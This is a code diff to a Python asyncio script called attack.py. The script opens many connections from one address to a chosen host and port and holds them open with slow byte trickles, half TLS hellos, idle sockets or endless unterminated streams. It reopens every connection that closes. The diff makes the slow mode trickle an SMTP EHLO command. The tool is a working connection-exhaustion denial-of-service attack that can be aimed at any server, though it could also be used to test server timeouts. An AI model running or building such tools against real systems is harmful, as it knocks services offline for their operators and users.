@@ -5,23 +5,26 @@ Connections that do no good, many from one address; it ends by itself.
 
 usage: attack.py HOST PORT COUNT SECONDS KIND
 
-KIND: slow      one byte every ten seconds
+KIND: slow      one byte of a command every ten seconds
       half      the first bytes of a TLS hello, then nothing
       idle      nothing at all
       endless   bytes without an end of line, as fast as they are taken, a GiB in all
 Each that is closed is opened again half a second later. At the end a line: what was opened, closed, sent.
 """
 import asyncio
+import itertools
 import sys
 import time
 
 HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
+SLOW = b"EHLO a-name-that-takes-its-time.example"
 GIB = 1 << 30
 opened = closed = sent = 0
 
 
 async def hold(reader, writer, kind, until):
     global sent
+    slow = itertools.cycle(SLOW)
     if kind == "half":
         writer.write(HELLO)
     while time.monotonic() < until and sent < GIB:
@@ -32,7 +35,7 @@ async def hold(reader, writer, kind, until):
             await asyncio.sleep(0)
             continue
         if kind == "slow":
-            writer.write(b"E")
+            writer.write(bytes([next(slow)]))
             await writer.drain()
         try:
             if not await asyncio.wait_for(reader.read(4096), min(10, max(0.1, until - time.monotonic()))):
